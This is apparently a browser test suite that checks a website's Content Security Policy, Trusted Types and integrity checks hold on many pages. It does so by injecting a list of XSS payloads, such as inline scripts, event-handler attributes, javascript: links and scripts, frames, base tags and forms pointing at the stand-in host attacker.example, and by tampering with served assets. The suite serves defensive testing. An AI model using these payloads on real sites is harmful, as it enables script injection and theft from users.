import type { Page } from 'playwright-core';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { openStage, type Stage } from '../helpers/browser.ts';
import { until } from '../helpers/until.ts';

/*
 * What browsers are told of security (docs/security-rules.md): no page breaks its own policy, whether it
 * is loaded or opened by a link, and what an attacker puts into a page does not run.
 */

let stage: Stage;
test.before(async () => {
  stage = await openStage();
});
test.after(() => stage?.close());

const post = '/resources/blog/implementing-workflow-automation';

/** A page of each view, and of each frame around it. */
const kinds: readonly string[] = [
  '/',
  '/ai-agents/sales',
  '/platform/agentic-workflows',
  '/privacy',
  '/resources/blog',
  '/resources/blog/page/2',
  '/resources/blog/category/ai',
  post,
  '/about/resources/changelogs',
  '/partner',
  '/login',
  '/app/dashboard',
  '/core/area',
  '/test-hero',
  '/resources/blog/not-found',
  '/404',
];

/** Keeps every breach of the policy, from before the first script on. */
const listen = (page: Page) =>
  page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations, attacked: [] as string[] });
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });

const read = (page: Page, name: 'violations' | 'attacked') =>
  page.evaluate((name) => Reflect.get(window, name) as string[], name);

/** Scrolls through the page, so that what waits to be seen is loaded and moves. */
const scrollThrough = (page: Page) =>
  page.evaluate(async () => {
    for (let y = 0; y < document.body.scrollHeight; y += innerHeight) {
      scrollTo(0, y);
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });

/** Titles by path, as the documents have them. */
const titles = new Map<string, string>();

test('no page violates its policy when it loads', async () => {
  await stage.visit(
    kinds,
    async ({ page, console }, path) => {
      titles.set(path, await page.title());
      await scrollThrough(page);
      assert.equal(await read(page, 'violations'), [], path);
      // A file that is not what its integrity says ends in the console.
      assert.not.match(console.join('\n'), /integrity|Refused|Content Security|TrustedHTML/, path);
    },
    { prepare: listen },
  );
});

test('no page breaks its policy when a link opens it, and bodies are shown all the same', async () => {
  const { page, console } = await stage.open('/about/us', { prepare: listen });
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  for (const path of kinds.filter((path) => path !== '/404')) {
    await page.evaluate((path) => {
      const link = Object.assign(document.createElement('a'), { href: path, textContent: 'there' });
      document.body.append(link);
      link.click();
    }, path);
    // The platform's door sends a stranger to sign in, which may be the page that is open.
    const isDoor = path === '/app/dashboard';
    const title = titles.get(isDoor ? '/login' : path);
    const address = isDoor ? '/login?return=%2Fapp%2Fdashboard' : path;
    await until(
      page,
      ([title, address]) =>
        document.title === title && location.pathname + location.search === address,
      [title, address],
    ).catch(async () => assert.unreachable(`${path}: ${page.url()} ${await page.title()}`));
    await scrollThrough(page);
    if (path === post) {
      const text = await page.locator('[data-page-body]').innerText();
      assert.ok(text.length > 3000, 'the article is there');
    }
    assert.equal(await read(page, 'violations'), [], path);
  }
  assert.ok(await page.evaluate(() => Reflect.get(window, 'sameDocument')), 'nothing reloaded');
  assert.equal(console, []);
  await page.context().close();
});

/** Markup that an attacker might get into a document, each with the directive that stops it. */
const injections: readonly (readonly [markup: string, directive: string])[] = [
  ['<script>attacked.push("inline script")</script>', 'script-src-elem'],
  ['<script type="module">attacked.push("inline module")</script>', 'script-src-elem'],
  ['<script src="https://attacker.example/x.js"></script>', 'script-src-elem'],
  ['<script src="data:text/javascript,attacked.push(1)"></script>', 'script-src-elem'],
  ['<img src="/missing.png" onerror="attacked.push(\'onerror\')">', 'script-src-attr'],
  ['<svg onload="attacked.push(\'onload\')"></svg>', 'script-src-attr'],
  ['<details open ontoggle="attacked.push(\'ontoggle\')">x</details>', 'script-src-attr'],
  ['<input autofocus onfocus="attacked.push(\'onfocus\')">', 'script-src-attr'],
  ['<svg><script href="https://attacker.example/s.js"></script></svg>', 'script-src-elem'],
  ['<script nonce="" integrity="">attacked.push("empty nonce")</script>', 'script-src-elem'],
  [
    '<script type="importmap">{"imports":{"a":"https://attacker.example/"}}</script>',
    'script-src-elem',
  ],
  ['<script type="speculationrules">{"prefetch":[{"urls":["/"]}]}</script>', 'script-src-elem'],
  ['<link rel="preload" as="script" href="https://attacker.example/p.js">', 'script-src-elem'],
  ['<link rel="modulepreload" href="https://attacker.example/m.js">', 'script-src-elem'],
  ['<video src="https://attacker.example/v.mp4"></video>', 'media-src'],
  ['<embed src="data:text/html,<script>parent.attacked.push(1)</script>">', 'object-src'],
  ['<p style="position:fixed;inset:0">over all</p>', 'style-src-attr'],
  ['<style>body { display: none }</style>', 'style-src-elem'],
  ['<link rel="stylesheet" href="https://attacker.example/x.css">', 'style-src-elem'],
  ['<img src="https://attacker.example/pixel.png">', 'img-src'],
  ['<iframe src="https://attacker.example/"></iframe>', 'frame-src'],
  ['<object data="https://attacker.example/x"></object>', 'object-src'],
  ['<base href="https://attacker.example/">', 'base-uri'],
];

test('injected markup runs no code and loads nothing from other hosts', async () => {
  const { page } = await stage.open(post, {
    prepare: async (page) => {
      await listen(page);
      await page.route(`${stage.url}${post}`, async (route) => {
        const response = await route.fetch();
        const markup = injections.map(([markup]) => markup).join('\n');
        const body = (await response.text()).replace('</body>', `${markup}</body>`);
        await route.fulfill({ response, body });
      });
    },
  });
  await page.waitForLoadState('load');
  assert.equal(await read(page, 'attacked'), []);
  const broken = await read(page, 'violations');
  for (const directive of new Set(injections.map(([, directive]) => directive))) {
    const wanted = injections.filter(([, other]) => other === directive).length;
    const found = broken.filter((text) => text.startsWith(`${directive} `)).length;
    assert.ok(found >= wanted, `${directive}: ${found} of ${wanted} in ${broken.join('\n')}`);
  }
  await page.context().close();
});

test('a link to a script, and a form that leads away, do nothing', async () => {
  const { page } = await stage.open('/partner', { prepare: listen });
  for (const markup of ['a', 'form']) {
    await page.evaluate((kind) => {
      if (kind === 'a') {
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:attacked.push("link")');
        document.body.append(link);
        link.click();
      } else {
        const form = document.createElement('form');
        form.action = 'https://attacker.example/';
        document.body.append(form);
        form.submit();
      }
    }, markup);
  }
  await until(page, () => (Reflect.get(window, 'violations') as string[]).length >= 2);
  assert.equal(await read(page, 'attacked'), []);
  const broken = (await read(page, 'violations')).join('\n');
  assert.match(broken, /script-src-elem|script-src|require-trusted-types-for/);
  assert.match(broken, 'form-action');
  assert.is(page.url(), `${stage.url}/partner`);
  await page.context().close();
});

test('text never becomes markup or code', async () => {
  const { page } = await stage.open('/resources/blog', { prepare: listen });
  const outcomes = await page.evaluate(async () => {
    const markup = '<img src=x onerror="attacked.push(\'sink\')">';
    const code = 'attacked.push("code")';
    const element = document.createElement('div');
    document.body.append(element);
    const attempts: readonly (readonly [string, () => unknown])[] = [
      // biome-ignore lint/security/noGlobalEval: what is tested.
      ['eval', () => window.eval(code)],
      ['function', () => new Function(code)()],
      ['innerHTML', () => Object.assign(element, { innerHTML: markup })],
      ['outerHTML', () => Object.assign(element, { outerHTML: markup })],
      ['insertAdjacentHTML', () => element.insertAdjacentHTML('beforeend', markup)],
      ['document.write', () => document.write(markup)],
      ['fragment', () => document.createRange().createContextualFragment(markup)],
      ['parser', () => new DOMParser().parseFromString(markup, 'text/html')],
      ['srcdoc', () => Object.assign(document.createElement('iframe'), { srcdoc: markup })],
      ['script.src', () => Object.assign(document.createElement('script'), { src: '/x.js' })],
      ['script.text', () => Object.assign(document.createElement('script'), { text: code })],
      ['handler', () => element.setAttribute('onclick', code)],
      ['timer', () => setTimeout(code)],
      ['worker', () => new Worker('/x.js')],
      [
        'a policy of its own',
        () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: String }),
      ],
      [
        'the policy again',
        () => Reflect.get(window, 'trustedTypes').createPolicy('default', { createHTML: String }),
      ],
    ];
    const results: Record<string, string> = {};
    // In a task of the page's own: what is evaluated for a test may break the policy.
    await new Promise<void>((resolve) => {
      setTimeout(() => {
        for (const [name, attempt] of attempts) {
          try {
            attempt();
            results[name] = 'went through';
          } catch (error) {
            results[name] = (error as Error).name;
          }
        }
        resolve();
      });
    });
    return results;
  });
  const refused = Object.entries(outcomes).filter(([, outcome]) => outcome === 'went through');
  assert.equal(refused, []);
  assert.equal(await read(page, 'attacked'), []);
  await page.context().close();
});

test('a script or style sheet that is not what the document says is not used', async () => {
  const { page, console } = await stage.open('/about/us', {
    waitForHydration: false,
    prepare: async (page) => {
      await listen(page);
      await page.addInitScript(() => {
        const failed: unknown[] = [];
        Object.assign(window, { failed });
        addEventListener('error', ({ target }) => failed.push(target), true);
      });
      await page.route(/\/assets\/.*\.(?:js|css)$/, async (route) => {
        const response = await route.fetch();
        const added = response.url().endsWith('js') ? ';attacked.push(1)' : 'body{opacity:0}';
        await route.fulfill({ response, body: `${await response.text()}${added}` });
      });
    },
  });
  // The code comes after the page has been loaded and painted.
  await page.waitForSelector('script[src]', { state: 'attached' });
  // The network may have been idle before that, so each file is waited for.
  await until(page, () => {
    const failed = Reflect.get(window, 'failed') as unknown[];
    const files = document.querySelectorAll('script[src], link[rel=stylesheet]');
    return [...files].every((file) => failed.includes(file));
  });
  const { unchecked, blocking } = await page.evaluate(() => {
    const [unchecked, blocking] = [
      ':is(script[src], link[rel=stylesheet], link[rel=modulepreload]):not([integrity])',
      'script[src], link[rel=stylesheet]',
    ].map((selector) =>
      [...document.querySelectorAll(selector)].map((element) =>
        String(element.getAttribute('src') ?? element.getAttribute('href')),
      ),
    );
    return { unchecked, blocking: blocking ?? [] };
  });
  assert.equal(unchecked, []);
  for (const url of blocking)
    assert.ok(
      console.some((text) => text.includes('integrity') && text.includes(url)),
      url,
    );
  assert.equal(await read(page, 'attacked'), []);
  assert.is(await page.evaluate(() => getComputedStyle(document.body).opacity), '1');
  // A file may still be on its way, such as one that is only loaded ahead.
  await page.unrouteAll({ behavior: 'wait' });
  await page.context().close();
});

test.run();
